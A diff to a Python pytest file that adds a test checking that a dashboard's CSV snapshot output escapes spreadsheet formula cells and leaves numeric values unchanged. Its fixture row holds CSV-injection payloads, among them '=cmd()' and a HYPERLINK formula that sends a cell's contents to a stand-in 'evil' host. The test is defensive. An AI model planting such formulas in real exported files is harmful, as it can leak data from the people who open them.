@@ -10,7 +10,7 @@ import pandas as pd
 import pytest
 
 from dashboard.__main__ import main
-from tests.conftest import FIXTURES, REPO
+from tests.conftest import FIXTURES, HEADER, REPO
 
 
 def run(*argv):
@@ -81,3 +81,15 @@ def test_snapshot_rejects_a_bad_date():
     with pytest.raises(SystemExit) as exit_info, redirect_stderr(io.StringIO()):
         main(["snapshot", "--date", "5 Dec"])
     assert exit_info.value.code == 2
+
+
+def test_snapshot_csv_neutralises_formula_cells_and_leaves_numbers_alone(tmp_path):
+    path = tmp_path / "events.csv"
+    row = 'a1,2024-12-01,Hill 7,35.5,-0.25,clash,=cmd(),"@x",,-AFP,,,,"=HYPERLINK(""http://evil/?""&A1,""x"")",,+1+2'
+    path.write_text(HEADER + "\n" + row + "\n", encoding="utf-8")
+    code, out, _ = run("snapshot", "--date", "2024-12-01", "--events", str(path))
+    shown = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False).iloc[0]
+    assert code == 0
+    assert (shown["actor"], shown["target"], shown["source"], shown["via"]) == ("'=cmd()", "'@x", "'-AFP", "'+1+2")
+    assert shown["description"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
+    assert (shown["lat"], shown["lon"], shown["controller"]) == ("35.5", "-0.25", "")
